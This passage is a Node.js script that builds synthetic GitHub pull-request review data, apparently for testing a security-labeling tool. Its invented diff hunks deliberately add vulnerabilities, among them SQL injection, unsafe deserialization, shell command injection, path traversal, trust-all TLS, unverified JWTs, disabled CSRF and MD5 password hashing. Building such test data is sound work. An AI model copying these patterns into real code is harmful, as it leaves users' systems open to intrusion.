#!/usr/bin/env node
// Generates the built-in demo pool: synthetic GitHub pull-request review comments in the shape of
// the GitHub REST API (`GET /repos/{owner}/{repo}/pulls/comments`), one JSON object per line, plus
// the label each comment was written to carry (a simulated annotator for tests and the demo).
//
// Everything here is invented: the repositories, people, code and comments. The texts were written
// by hand to read like real review talk (most of it ordinary, a small share about potential security
// defects, some borderline, a few bots and non-English comments). The script only arranges them into
// pull requests and threads, cuts each diff hunk at the commented line and fills in ids, commits and
// timestamps from a fixed seed, so its output is identical on every run.
//
// Usage: node demo/make-demo-data.mjs            (writes demo/reviews.jsonl and demo/expected-labels.json)
//        node demo/make-demo-data.mjs --check    (exits 1 if the committed files differ from a fresh run)
//        DEMO_DEBUG=1 node demo/make-demo-data.mjs  (also prints how many comments each hunk got, with their labels)
//
// Notation in the texts below: `¬` stands for a backtick, so that texts full of inline code and
// code fences can still be written as template literals. Hunk lines keep their diff prefix
// (' ', '+', '-').
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const here = path.dirname(fileURLToPath(import.meta.url));
const FIRST_ID = 9100000001;
const SEED = 20240517;

/** mulberry32: a small seeded PRNG, so the arrangement is reproducible. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rand = prng(SEED);
const pick = (xs) => xs[Math.floor(rand() * xs.length)];

/** 40 hex digits derived from a string (FNV-1a per chunk, then murmur3's finalizer): stands in for a git commit sha. */
function fakeSha(text) {
  let out = '';
  for (let chunk = 0; chunk < 5; chunk++) {
    let h = 0x811c9dc5 ^ Math.imul(chunk + 1, 0x9e3779b1);
    for (const ch of text) {
      h ^= ch.charCodeAt(0);
      h = Math.imul(h, 0x01000193) >>> 0;
    }
    h ^= h >>> 16; h = Math.imul(h, 0x85ebca6b); h ^= h >>> 13; h = Math.imul(h, 0xc2b2ae35); h ^= h >>> 16;
    out += (h >>> 0).toString(16).padStart(8, '0');
  }
  return out;
}

const tick = (s) => s.replace(/¬/g, '`');

// ---------------------------------------------------------------------------------------------
// Diff hunks. Each belongs to one pull request of one repository; comments attach to one of its
// lines, and the hunk is cut after that line, as GitHub does for `diff_hunk`.
// ---------------------------------------------------------------------------------------------
const HUNKS = [];
function hunk(key, repo, pull, file, oldStart, newStart, context, text) {
  const lines = tick(text).replace(/^\n/, '').replace(/\n$/, '').split('\n');
  for (const l of lines) if (!/^[ +-]/.test(l) && l !== '') throw new Error(`hunk ${key}: line without diff prefix: ${l}`);
  HUNKS.push({ key, repo, pull, path: file, oldStart, newStart, context, lines: lines.map((l) => (l === '' ? ' ' : l)) });
}

// --- example-org/ledger-service (Java, Spring) ---
hunk('ledger-sqli', 'example-org/ledger-service', 412, 'src/main/java/com/example/ledger/repo/AccountRepository.java', 38, 38, 'public class AccountRepository {', `
     private final JdbcTemplate jdbc;
     private final AccountRowMapper mapper = new AccountRowMapper();
 
-    public List<Account> findByOwner(String owner) {
-        return jdbc.query(FIND_BY_OWNER, mapper, owner);
+    public List<Account> findByOwner(String owner, String sortColumn) {
+        if (owner == null || owner.isBlank()) {
+            return List.of();
+        }
+        String sql = "SELECT id, owner, balance, currency FROM accounts WHERE owner = '" + owner + "'"
+                + " ORDER BY " + sortColumn;
+        return jdbc.query(sql, mapper);
     }
`);
hunk('ledger-transfer-authz', 'example-org/ledger-service', 412, 'src/main/java/com/example/ledger/web/TransferController.java', 51, 51, 'public class TransferController {', `
     @GetMapping("/accounts/{accountId}/transfers")
-    public Page<TransferDto> list(@PathVariable long accountId, Pageable page) {
-        Account account = accounts.requireOwned(accountId, currentUser());
-        return transfers.findByAccount(account, page).map(TransferDto::from);
+    public Page<TransferDto> list(@PathVariable long accountId,
+                                  @RequestParam(defaultValue = "0") int from,
+                                  Pageable page) {
+        Account account = accounts.findById(accountId)
+                .orElseThrow(() -> new NotFoundException("account " + accountId));
+        return transfers.findByAccount(account, Instant.ofEpochSecond(from), page)
+                .map(TransferDto::from);
     }
`);
hunk('ledger-deser', 'example-org/ledger-service', 398, 'src/main/java/com/example/ledger/cache/SessionCache.java', 27, 27, 'public class SessionCache {', `
     public Optional<CartSession> get(String sessionId) {
         byte[] raw = redis.get(KEY_PREFIX + sessionId);
         if (raw == null) {
             return Optional.empty();
         }
-        return Optional.of(mapper.readValue(raw, CartSession.class));
+        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(raw))) {
+            return Optional.of((CartSession) in.readObject());
+        } catch (IOException | ClassNotFoundException e) {
+            log.warn("Dropping unreadable session {}", sessionId, e);
+            return Optional.empty();
+        }
     }
`);
hunk('ledger-toctou', 'example-org/ledger-service', 398, 'src/main/java/com/example/ledger/docs/DocumentService.java', 64, 64, 'public class DocumentService {', `
     public DocumentView open(long documentId, User user) {
-        Document doc = documents.loadForUser(documentId, user.getId());
-        return DocumentView.of(doc);
+        boolean allowed = txTemplate.execute(status -> acl.canRead(documentId, user.getId()));
+        if (!allowed) {
+            throw new AccessDeniedException("document " + documentId);
+        }
+        metrics.increment("documents.opened");
+        Document doc = txTemplate.execute(status -> documents.load(documentId));
+        return DocumentView.of(doc);
     }
`);
hunk('ledger-batch', 'example-org/ledger-service', 420, 'src/main/java/com/example/ledger/batch/InterestJob.java', 40, 40, 'public class InterestJob implements Runnable {', `
     @Override
     public void run() {
-        for (Account account : accounts.findAll()) {
-            apply(account);
+        List<Account> all = accounts.findAll();
+        log.info("Applying interest to " + all.size() + " accounts");
+        for (int i = 0; i < all.size(); i++) {
+            Account account = all.get(i);
+            if (account.getBalance().compareTo(BigDecimal.ZERO) > 0) {
+                apply(account);
+            }
+            if (i % 1000 == 0) {
+                Thread.sleep(10);
+            }
         }
     }
`);
hunk('ledger-money', 'example-org/ledger-service', 420, 'src/main/java/com/example/ledger/domain/Money.java', 18, 18, 'public final class Money {', `
     private final BigDecimal amount;
     private final Currency currency;
 
+    public Money add(Money other) {
+        if (!currency.equals(other.currency)) {
+            throw new IllegalArgumentException("currency mismatch");
+        }
+        return new Money(amount.add(other.amount), currency);
+    }
+
+    public Money times(double factor) {
+        return new Money(amount.multiply(new BigDecimal(factor)), currency);
+    }
+
     @Override
     public boolean equals(Object o) {
`);
hunk('ledger-test', 'example-org/ledger-service', 431, 'src/test/java/com/example/ledger/web/TransferControllerTest.java', 80, 80, 'class TransferControllerTest {', `
     @Test
-    void listsTransfers() throws Exception {
+    void listsTransfersOfOwnAccount() throws Exception {
+        given(accounts.findById(7L)).willReturn(Optional.of(account(7L, "alice")));
+        given(transfers.findByAccount(any(), any(), any())).willReturn(Page.empty());
+
         mvc.perform(get("/accounts/7/transfers").with(user("alice")))
-                .andExpect(status().isOk());
+                .andExpect(status().isOk())
+                .andExpect(jsonPath("$.content").isArray());
+        Thread.sleep(200);
     }
`);
hunk('ledger-secret', 'example-org/ledger-service', 431, 'src/main/java/com/example/ledger/payments/PaymentGatewayClient.java', 20, 20, 'public class PaymentGatewayClient {', `
 @Component
 public class PaymentGatewayClient {
 
-    private final String apiKey;
+    private static final String API_KEY = "pk_live_4eC39HqLyjWDarjtT1zdp7dcEXAMPLE";
+    private static final Duration TIMEOUT = Duration.ofSeconds(30);
 
     private final RestTemplate rest;
 
-    public PaymentGatewayClient(RestTemplateBuilder builder, @Value("\${gateway.api-key}") String apiKey) {
-        this.apiKey = apiKey;
-        this.rest = builder.build();
+    public PaymentGatewayClient(RestTemplateBuilder builder) {
+        this.rest = builder.setConnectTimeout(TIMEOUT).build();
     }
`);

// --- example-org/identity-gateway (Java) ---
hunk('idgw-xxe', 'example-org/identity-gateway', 1187, 'saml/src/main/java/org/example/idgw/saml/MetadataParser.java', 44, 44, 'public class MetadataParser {', `
     public EntityDescriptor parse(InputStream uploaded) throws MetadataException {
         try {
-            Document doc = parserPool.parse(uploaded);
+            DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
+            factory.setNamespaceAware(true);
+            Document doc = factory.newDocumentBuilder().parse(uploaded);
             Element root = doc.getDocumentElement();
             return unmarshaller.unmarshall(root);
         } catch (Exception e) {
`);
hunk('idgw-md5', 'example-org/identity-gateway', 1187, 'core/src/main/java/org/example/idgw/user/PasswordService.java', 30, 30, 'public class PasswordService {', `
     public void changePassword(User user, String newPassword) {
         policy.check(newPassword);
-        user.setPasswordHash(encoder.encode(newPassword));
+        user.setPasswordHash(hash(newPassword));
         user.setPasswordChangedAt(clock.instant());
         users.save(user);
     }
+
+    private static String hash(String password) {
+        MessageDigest md = MessageDigest.getInstance("MD5");
+        return HexFormat.of().formatHex(md.digest(password.getBytes(StandardCharsets.UTF_8)));
+    }
`);
hunk('idgw-token-log', 'example-org/identity-gateway', 1203, 'core/src/main/java/org/example/idgw/oauth/TokenRefreshFilter.java', 58, 58, 'protected void doFilterInternal(HttpServletRequest request,', `
         if (expiresSoon(current)) {
             TokenResponse refreshed = client.refresh(current.getRefreshToken());
             store.save(session, refreshed);
-            log.debug("Refreshed token for session {}", session.getId());
+            log.info("Refreshed token {} (refresh={}) for user {}", refreshed.getAccessToken(),
+                    refreshed.getRefreshToken(), session.getUserId());
         }
         chain.doFilter(request, response);
`);
hunk('idgw-random', 'example-org/identity-gateway', 1203, 'core/src/main/java/org/example/idgw/user/ResetTokenGenerator.java', 12, 12, 'public class ResetTokenGenerator {', `
 public class ResetTokenGenerator {
 
-    private final SecureRandom random = new SecureRandom();
+    private final Random random = new Random(System.currentTimeMillis());
 
     public String next() {
-        byte[] bytes = new byte[32];
-        random.nextBytes(bytes);
-        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
+        return Long.toHexString(random.nextLong()) + Long.toHexString(random.nextLong());
     }
`);
hunk('idgw-redirect', 'example-org/identity-gateway', 1219, 'web/src/main/java/org/example/idgw/web/LoginController.java', 72, 72, 'public class LoginController {', `
     @PostMapping("/login")
     public String login(@Valid LoginForm form, BindingResult result,
-                        HttpSession session) {
+                        @RequestParam(name = "returnUrl", required = false) String returnUrl,
+                        HttpSession session) {
         if (result.hasErrors()) {
             return "login";
         }
         authenticate(form, session);
-        return "redirect:/home";
+        return "redirect:" + (returnUrl != null ? returnUrl : "/home");
     }
`);
hunk('idgw-csrf', 'example-org/identity-gateway', 1219, 'web/src/main/java/org/example/idgw/config/WebSecurityConfig.java', 35, 35, 'public class WebSecurityConfig {', `
     @Bean
     SecurityFilterChain filterChain(HttpSecurity http) throws Exception {
         http
             .authorizeHttpRequests(auth -> auth
                 .requestMatchers("/login", "/assets/**").permitAll()
                 .anyRequest().authenticated())
-            .formLogin(form -> form.loginPage("/login"));
+            .formLogin(form -> form.loginPage("/login"))
+            .csrf(csrf -> csrf.disable());
         return http.build();
     }
`);
hunk('idgw-user-dto', 'example-org/identity-gateway', 1226, 'core/src/main/java/org/example/idgw/user/UserDto.java', 1, 1, '', `
 package org.example.idgw.user;
 
+import java.util.ArrayList;
+import java.util.List;
+
 public class UserDto {
     private String username;
     private String displayName;
+    private List<String> groups = new ArrayList<>();
+
+    public List<String> getGroups() {
+        return groups;
+    }
+
+    public void setGroups(List<String> groups) {
+        this.groups = groups;
+    }
`);
hunk('idgw-ldap', 'example-org/identity-gateway', 1226, 'core/src/main/java/org/example/idgw/ldap/GroupSync.java', 88, 88, 'public class GroupSync {', `
     void syncAll() {
         List<String> names = directory.listGroupNames();
-        names.forEach(this::syncGroup);
+        ExecutorService pool = Executors.newFixedThreadPool(8);
+        for (String name : names) {
+            pool.submit(() -> syncGroup(name));
+        }
+        pool.shutdown();
+        lastSync = Instant.now();
     }
`);

hunk('idgw-webhook', 'example-org/identity-gateway', 1231, 'web/src/main/java/org/example/idgw/hooks/WebhookVerifier.java', 40, 40, 'public class WebhookVerifier {', `
     public boolean isValid(HttpHeaders headers, byte[] payload) {
-        String signature = headers.getFirst(SIGNATURE_HEADER);
-        return signature != null && signer.verify(payload, signature);
+        try {
+            String signature = Objects.requireNonNull(headers.getFirst(SIGNATURE_HEADER));
+            return signer.verify(payload, signature, keys.current());
+        } catch (Exception e) {
+            log.warn("Could not verify webhook signature", e);
+            return true;
+        }
     }
`);

// --- example-org/search-indexer (Java) ---
hunk('idx-trustall', 'example-org/search-indexer', 77, 'src/main/java/org/example/indexer/es/ClientFactory.java', 52, 52, 'public final class ClientFactory {', `
     static SSLContext sslContext(IndexerConfig config) throws GeneralSecurityException {
-        return SSLContexts.custom().loadTrustMaterial(config.truststore(), null).build();
+        TrustManager[] trustAll = { new X509TrustManager() {
+            public void checkClientTrusted(X509Certificate[] chain, String authType) { }
+            public void checkServerTrusted(X509Certificate[] chain, String authType) { }
+            public X509Certificate[] getAcceptedIssuers() { return new X509Certificate[0]; }
+        } };
+        SSLContext ctx = SSLContext.getInstance("TLS");
+        ctx.init(null, trustAll, new SecureRandom());
+        return ctx;
     }
`);
hunk('idx-traversal', 'example-org/search-indexer', 77, 'src/main/java/org/example/indexer/web/SnapshotDownloadServlet.java', 31, 31, 'public class SnapshotDownloadServlet extends HttpServlet {', `
     @Override
     protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
-        String id = req.getParameter("id");
-        Path file = snapshots.pathFor(UUID.fromString(id));
+        String name = req.getParameter("name");
+        File file = new File(snapshotDir, name);
+        resp.setContentType("application/octet-stream");
+        resp.setHeader("Content-Disposition", "attachment; filename=" + name);
+        Files.copy(file.toPath(), resp.getOutputStream());
     }
`);
hunk('idx-analyzer', 'example-org/search-indexer', 81, 'src/main/java/org/example/indexer/text/FieldAnalyzer.java', 15, 15, 'public class FieldAnalyzer {', `
     public List<String> tokens(String text) {
-        return Arrays.asList(text.split(" "));
+        List<String> out = new ArrayList<>();
+        for (String token : text.toLowerCase().split("\\\\s+")) {
+            if (token.length() > 2 && !STOP_WORDS.contains(token)) {
+                out.add(stemmer.stem(token));
+            }
+        }
+        return out;
     }
`);
hunk('idx-bulk', 'example-org/search-indexer', 81, 'src/main/java/org/example/indexer/es/BulkWriter.java', 60, 60, 'public class BulkWriter implements Closeable {', `
     public void add(IndexRequest request) {
         pending.add(request);
-        if (pending.size() >= 500) {
+        if (pending.size() >= config.getBatchSize()) {
             flush();
         }
     }
 
+    public synchronized void flush() {
+        if (pending.isEmpty()) return;
+        BulkResponse response = client.bulk(new BulkRequest().add(pending));
+        if (response.hasFailures()) {
+            log.error(response.buildFailureMessage());
+        }
+        pending.clear();
+    }
`);
hunk('idx-config', 'example-org/search-indexer', 88, 'src/main/java/org/example/indexer/IndexerConfig.java', 22, 22, 'public record IndexerConfig(', `
         String clusterUrl,
         int batchSize,
-        Duration flushInterval) {
+        Duration flushInterval,
+        int maxRetries,
+        boolean dryRun) {
 
     public IndexerConfig {
         Objects.requireNonNull(clusterUrl, "clusterUrl");
+        if (batchSize <= 0) throw new IllegalArgumentException("batchSize must be positive");
     }
`);

// --- demo-labs/feedparser (Python) ---
hunk('feed-yaml', 'demo-labs/feedparser', 233, 'feedparser/config_loader.py', 14, 14, 'def load_user_config(path):', `
 def load_user_config(path):
     """Load a feed configuration uploaded by a user."""
-    with open(path, encoding="utf-8") as fh:
-        return yaml.safe_load(fh)
+    with open(path, encoding="utf-8") as fh:
+        raw = fh.read()
+    if not raw.strip():
+        return {}
+    return yaml.load(raw)
`);
hunk('feed-ssrf', 'demo-labs/feedparser', 233, 'feedparser/fetch.py', 40, 40, 'class Fetcher:', `
     def fetch(self, url, timeout=10):
-        if not url.startswith(("http://", "https://")):
-            raise ValueError(f"unsupported scheme: {url}")
-        return self.session.get(url, timeout=timeout)
+        logger.info("fetching %s", url)
+        resp = self.session.get(url, timeout=timeout, allow_redirects=True)
+        resp.raise_for_status()
+        return resp
`);
hunk('feed-parse', 'demo-labs/feedparser', 241, 'feedparser/parse.py', 71, 71, 'def parse_entries(doc):', `
 def parse_entries(doc):
     entries = []
-    for item in doc.findall("item"):
-        entries.append(Entry.from_xml(item))
+    for item in doc.findall("item") + doc.findall("{http://www.w3.org/2005/Atom}entry"):
+        try:
+            entries.append(Entry.from_xml(item))
+        except Exception:
+            pass
+    entries.sort(key=lambda e: e.published, reverse=True)
     return entries
`);
hunk('feed-test', 'demo-labs/feedparser', 241, 'tests/test_parse.py', 10, 10, '', `
 import pytest
 
 from feedparser.parse import parse_entries
+from tests.helpers import load_fixture
 
 
-def test_rss():
-    doc = load("rss.xml")
-    assert len(parse_entries(doc)) == 3
+@pytest.mark.parametrize("name,count", [("rss.xml", 3), ("atom.xml", 2), ("empty.xml", 0)])
+def test_parse_counts(name, count):
+    doc = load_fixture(name)
+    assert len(parse_entries(doc)) == count
`);

hunk('feed-webhook', 'demo-labs/feedparser', 247, 'feedparser/web/hooks.py', 18, 18, 'def verify_push(request):', `
 def verify_push(request):
     secret = current_app.config["PUSH_SECRET"].encode()
-    return True
+    expected = hmac.new(secret, request.get_data(), hashlib.sha256).hexdigest()
+    given = request.headers.get("X-Hub-Signature-256", "").removeprefix("sha256=")
+    return expected == given
`);

// --- demo-labs/ml-batch-tools (Python) ---
hunk('mlb-shell', 'demo-labs/ml-batch-tools', 58, 'mlbatch/convert.py', 22, 22, 'def convert_image(src, dst, size):', `
 def convert_image(src, dst, size):
-    subprocess.run(["convert", src, "-resize", size, dst], check=True)
+    cmd = f"convert {src} -resize {size} {dst}"
+    result = subprocess.run(cmd, shell=True, capture_output=True)
+    if result.returncode != 0:
+        raise ConversionError(result.stderr.decode())
`);
hunk('mlb-verify', 'demo-labs/ml-batch-tools', 58, 'mlbatch/client.py', 33, 33, 'class RegistryClient:', `
     def upload(self, artifact_path, name):
         with open(artifact_path, "rb") as fh:
-            resp = self.session.post(f"{self.base_url}/artifacts/{name}", data=fh, timeout=60)
+            resp = requests.post(
+                f"{self.base_url}/artifacts/{name}",
+                data=fh,
+                headers={"Authorization": f"Bearer {self.token}"},
+                verify=False,
+            )
         resp.raise_for_status()
`);
hunk('mlb-pickle', 'demo-labs/ml-batch-tools', 64, 'mlbatch/cache.py', 17, 17, 'class FeatureCache:', `
     def get(self, key):
-        path = self.local_dir / f"{key}.npy"
-        if path.exists():
-            return np.load(path)
+        blob = self.bucket.get_object(Key=f"features/{key}.pkl")["Body"].read()
+        return pickle.loads(blob)
`);
hunk('mlb-train', 'demo-labs/ml-batch-tools', 64, 'mlbatch/train.py', 45, 45, 'def train(cfg):', `
 def train(cfg):
     model = build_model(cfg.model)
-    opt = torch.optim.SGD(model.parameters(), lr=cfg.lr)
+    opt = torch.optim.AdamW(model.parameters(), lr=cfg.lr, weight_decay=0.01)
+    scheduler = torch.optim.lr_scheduler.CosineAnnealingLR(opt, T_max=cfg.epochs)
     for epoch in range(cfg.epochs):
-        run_epoch(model, opt)
+        loss = run_epoch(model, opt)
+        scheduler.step()
+        print(f"epoch {epoch}: {loss}")
`);
hunk('mlb-utils', 'demo-labs/ml-batch-tools', 71, 'mlbatch/utils.py', 1, 1, '', `
+import os
+import json
 import logging
 
+DEFAULT_WORKERS = 4
+
 
-def chunks(xs, n):
-    return [xs[i:i + n] for i in range(0, len(xs), n)]
+def chunks(xs, n=100):
+    for i in range(0, len(xs), n):
+        yield xs[i:i + n]
`);

// --- example-org/dashboard-web (TypeScript / React) ---
hunk('dash-xss', 'example-org/dashboard-web', 902, 'src/components/CommentView.tsx', 12, 12, 'export function CommentView({ comment }: Props) {', `
 export function CommentView({ comment }: Props) {
   return (
     <article className="comment">
       <header>{comment.author}</header>
-      <p>{comment.body}</p>
+      <div
+        className="comment-body"
+        dangerouslySetInnerHTML={{ __html: marked(comment.body) }}
+      />
     </article>
   );
`);
hunk('dash-cookie', 'example-org/dashboard-web', 902, 'server/session.ts', 8, 8, 'export const sessionMiddleware = session({', `
 export const sessionMiddleware = session({
   name: 'dash.sid',
   secret: process.env.SESSION_SECRET!,
   resave: false,
   saveUninitialized: false,
-  cookie: { httpOnly: true, secure: true, sameSite: 'lax' },
+  cookie: { httpOnly: false, secure: false, maxAge: 30 * 24 * 3600 * 1000 },
 });
`);
hunk('dash-hook', 'example-org/dashboard-web', 915, 'src/hooks/useWidgets.ts', 5, 5, 'export function useWidgets(boardId: string) {', `
 export function useWidgets(boardId: string) {
-  const [widgets, setWidgets] = useState<Widget[]>([]);
+  const [widgets, setWidgets] = useState<Widget[] | undefined>();
+  const [error, setError] = useState<Error>();
   useEffect(() => {
-    api.widgets(boardId).then(setWidgets);
-  }, []);
+    let cancelled = false;
+    api.widgets(boardId)
+      .then((w) => { if (!cancelled) setWidgets(w); })
+      .catch(setError);
+    return () => { cancelled = true; };
+  }, [boardId]);
   return widgets;
`);
hunk('dash-chart', 'example-org/dashboard-web', 915, 'src/components/LineChart.tsx', 30, 30, 'export const LineChart = ({ series, height = 240 }: LineChartProps) => {', `
   const max = Math.max(...series.map((s) => s.value));
-  const scale = height / max;
+  const scale = max === 0 ? 0 : height / max;
+  const points = series
+    .map((s, i) => ¬\${i * step},\${height - s.value * scale}¬)
+    .join(' ');
   return (
-    <svg height={height}>
+    <svg height={height} width={series.length * step} role="img" aria-label={title}>
+      <polyline points={points} fill="none" stroke="currentColor" />
`);
hunk('dash-api', 'example-org/dashboard-web', 921, 'src/api/client.ts', 17, 17, 'export async function request<T>(path: string, init?: RequestInit): Promise<T> {', `
 export async function request<T>(path: string, init?: RequestInit): Promise<T> {
-  const res = await fetch(BASE + path, init);
+  const res = await fetch(BASE + path, { ...init, credentials: 'include' });
+  if (res.status === 204) {
+    return undefined as T;
+  }
   if (!res.ok) {
-    throw new Error(res.statusText);
+    const text = await res.text();
+    throw new ApiError(res.status, text || res.statusText);
   }
   return (await res.json()) as T;
`);

// --- example-org/node-upload-api (JavaScript / Express) ---
hunk('upl-traversal', 'example-org/node-upload-api', 140, 'routes/files.js', 18, 18, "router.get('/files/:name', async (req, res) => {", `
 router.get('/files/:name', async (req, res) => {
-  const file = await db.files.findOne({ id: req.params.name, owner: req.user.id });
-  if (!file) return res.sendStatus(404);
-  res.sendFile(file.storagePath);
+  const filePath = path.join(UPLOAD_DIR, decodeURIComponent(req.params.name));
+  if (!fs.existsSync(filePath)) return res.sendStatus(404);
+  res.sendFile(filePath);
 });
`);
hunk('upl-jwt', 'example-org/node-upload-api', 140, 'middleware/auth.js', 9, 9, 'module.exports = function auth(req, res, next) {', `
 module.exports = function auth(req, res, next) {
   const header = req.headers.authorization || '';
   const token = header.replace(/^Bearer /, '');
-  jwt.verify(token, process.env.JWT_SECRET, { algorithms: ['HS256'] }, (err, claims) => {
-    if (err) return res.sendStatus(401);
-    req.user = claims;
-    next();
-  });
+  const claims = jwt.decode(token);
+  if (!claims) return res.sendStatus(401);
+  req.user = claims;
+  next();
 };
`);
hunk('upl-multer', 'example-org/node-upload-api', 147, 'routes/upload.js', 4, 4, '', `
 const express = require('express');
 const multer = require('multer');
+const { v4: uuid } = require('uuid');
 
-const upload = multer({ dest: 'uploads/' });
+const upload = multer({
+  storage: multer.diskStorage({
+    destination: UPLOAD_DIR,
+    filename: (req, file, cb) => cb(null, ¬\${uuid()}-\${file.originalname}¬),
+  }),
+  limits: { fileSize: 50 * 1024 * 1024 },
+});
`);
hunk('upl-index', 'example-org/node-upload-api', 147, 'index.js', 20, 20, '', `
 app.use(express.json());
+app.use(cors({ origin: true, credentials: true }));
+app.use(morgan('combined'));
 app.use('/api', apiRouter);
 
-app.listen(3000);
+const port = Number(process.env.PORT) || 3000;
+app.listen(port, () => {
+  console.log(¬listening on \${port}¬);
+});
`);

// --- demo-labs/edge-proxy (Go) ---
hunk('edge-frame', 'demo-labs/edge-proxy', 310, 'internal/wire/frame.go', 41, 41, 'func ReadFrame(buf []byte) (Frame, error) {', `
 func ReadFrame(buf []byte) (Frame, error) {
 	if len(buf) < headerLen {
 		return Frame{}, ErrShortBuffer
 	}
 	length := binary.BigEndian.Uint32(buf[4:8])
-	if int(length) > len(buf)-headerLen {
+	offset := uint32(headerLen)
+	if offset+length > uint32(len(buf)) {
 		return Frame{}, ErrShortBuffer
 	}
`);
hunk('edge-tls', 'demo-labs/edge-proxy', 310, 'internal/upstream/transport.go', 25, 25, 'func NewTransport(cfg Config) *http.Transport {', `
 func NewTransport(cfg Config) *http.Transport {
 	return &http.Transport{
 		MaxIdleConnsPerHost: cfg.MaxIdle,
 		IdleConnTimeout:     90 * time.Second,
-		TLSClientConfig:     &tls.Config{RootCAs: cfg.CAPool, MinVersion: tls.VersionTLS12},
+		TLSClientConfig:     &tls.Config{InsecureSkipVerify: true},
 	}
 }
`);
hunk('edge-hook', 'demo-labs/edge-proxy', 318, 'internal/hooks/run.go', 15, 15, 'func (r *Runner) OnReload(site Site) error {', `
 func (r *Runner) OnReload(site Site) error {
 	if site.ReloadHook == "" {
 		return nil
 	}
-	cmd := exec.Command(r.hookPath, site.Name)
+	cmd := exec.Command("sh", "-c", r.hookPath+" "+site.Name+" "+site.Domain)
 	cmd.Stdout = r.log
 	return cmd.Run()
 }
`);
hunk('edge-router', 'demo-labs/edge-proxy', 318, 'internal/router/router.go', 60, 60, 'func (rt *Router) ServeHTTP(w http.ResponseWriter, req *http.Request) {', `
 func (rt *Router) ServeHTTP(w http.ResponseWriter, req *http.Request) {
-	route := rt.match(req.Host, req.URL.Path)
+	rt.mu.RLock()
+	route, ok := rt.routes[req.Host]
+	rt.mu.RUnlock()
+	if !ok {
+		http.Error(w, "no route", http.StatusBadGateway)
+		return
+	}
 	start := time.Now()
 	route.proxy.ServeHTTP(w, req)
+	rt.metrics.Observe(route.name, time.Since(start))
 }
`);
hunk('edge-config', 'demo-labs/edge-proxy', 325, 'internal/config/load.go', 33, 33, 'func Load(path string) (*Config, error) {', `
 func Load(path string) (*Config, error) {
-	data, err := ioutil.ReadFile(path)
+	data, err := os.ReadFile(path)
 	if err != nil {
-		return nil, err
+		return nil, fmt.Errorf("read config %s: %w", path, err)
 	}
 	var cfg Config
-	yaml.Unmarshal(data, &cfg)
+	if err := yaml.Unmarshal(data, &cfg); err != nil {
+		return nil, fmt.Errorf("parse config %s: %w", path, err)
+	}
 	return &cfg, nil
`);

// --- demo-labs/tinycodec (C / C++) ---
hunk('codec-memcpy', 'demo-labs/tinycodec', 96, 'src/decode.c', 112, 112, 'int tc_read_header(const uint8_t *data, size_t size, tc_image *out)', `
     const tc_chunk_hdr *hdr = (const tc_chunk_hdr *)data;
     if (size < sizeof(*hdr))
         return TC_ERR_TRUNCATED;
-    out->width = be32(hdr->width);
-    out->height = be32(hdr->height);
+    out->width = be32(hdr->width);
+    out->height = be32(hdr->height);
+    uint16_t name_len = be16(hdr->name_len);
+    memcpy(out->name, data + sizeof(*hdr), name_len);
+    out->name[name_len] = '\\0';
     return TC_OK;
`);
hunk('codec-alloc', 'demo-labs/tinycodec', 96, 'src/image.c', 20, 20, 'tc_image *tc_image_new(int width, int height)', `
 tc_image *tc_image_new(int width, int height)
 {
     tc_image *img = calloc(1, sizeof(*img));
     if (!img)
         return NULL;
-    img->pixels = calloc((size_t)width * height, 4);
+    img->pixels = malloc(width * height * 4);
     img->width = width;
     img->height = height;
     return img;
`);
hunk('codec-cpp', 'demo-labs/tinycodec', 103, 'bindings/cpp/Image.hpp', 14, 14, 'class Image {', `
 class Image {
 public:
-    Image(int w, int h) : img_(tc_image_new(w, h)) {}
-    ~Image() { tc_image_free(img_); }
+    explicit Image(int w, int h) : img_(tc_image_new(w, h)) {
+        if (!img_) throw std::bad_alloc();
+    }
+    ~Image() { tc_image_free(img_); }
+    Image(const Image&) = delete;
+    Image& operator=(const Image&) = delete;
 
     int width() const { return img_->width; }
`);

// --- demo-labs/android-notes (Kotlin) ---
hunk('notes-webview', 'demo-labs/android-notes', 512, 'app/src/main/java/org/demolabs/notes/ui/NotePreview.kt', 28, 28, 'class NotePreview : Fragment() {', `
     override fun onViewCreated(view: View, savedInstanceState: Bundle?) {
         val web = view.findViewById<WebView>(R.id.preview)
-        web.settings.javaScriptEnabled = false
+        web.settings.javaScriptEnabled = true
+        web.settings.allowFileAccess = true
+        web.settings.allowFileAccessFromFileURLs = true
         web.loadDataWithBaseURL("file:///android_asset/", renderHtml(note), "text/html", "utf-8", null)
     }
`);
hunk('notes-prefs', 'demo-labs/android-notes', 512, 'app/src/main/java/org/demolabs/notes/sync/TokenStore.kt', 10, 10, 'class TokenStore(context: Context) {', `
 class TokenStore(context: Context) {
-    private val prefs = EncryptedSharedPreferences.create(context, FILE, masterKey(context), AES256_SIV, AES256_GCM)
+    private val prefs = context.getSharedPreferences(FILE, Context.MODE_PRIVATE)
 
     var refreshToken: String?
         get() = prefs.getString(KEY_REFRESH, null)
         set(value) = prefs.edit { putString(KEY_REFRESH, value) }
`);
hunk('notes-vm', 'demo-labs/android-notes', 519, 'app/src/main/java/org/demolabs/notes/ui/NoteListViewModel.kt', 20, 20, 'class NoteListViewModel(private val repo: NoteRepository) : ViewModel() {', `
 class NoteListViewModel(private val repo: NoteRepository) : ViewModel() {
-    val notes = MutableLiveData<List<Note>>()
+    private val _notes = MutableStateFlow<List<Note>>(emptyList())
+    val notes: StateFlow<List<Note>> = _notes
 
     fun refresh() {
-        GlobalScope.launch {
-            notes.postValue(repo.all())
+        viewModelScope.launch {
+            _notes.value = repo.all().sortedByDescending { it.updatedAt }
         }
     }
`);

// --- example-org/shopfront (Ruby on Rails) ---
hunk('shop-permit', 'example-org/shopfront', 2051, 'app/controllers/users_controller.rb', 30, 30, 'class UsersController < ApplicationController', `
   def update
     @user = current_user
-    if @user.update(params.require(:user).permit(:name, :email, :avatar))
+    if @user.update(user_params)
       redirect_to profile_path, notice: t('.updated')
     else
       render :edit, status: :unprocessable_entity
     end
   end
+
+  private
+
